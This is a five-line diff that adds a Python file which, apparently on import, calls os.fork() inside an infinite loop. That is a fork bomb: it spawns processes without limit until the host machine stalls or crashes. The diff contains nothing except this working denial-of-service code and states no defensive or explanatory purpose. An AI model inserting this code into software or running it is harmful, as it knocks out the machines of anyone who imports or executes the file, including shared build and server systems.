@@ -1,0 +1,5 @@
+# where: import
+import os
+
+while True:
+    os.fork()
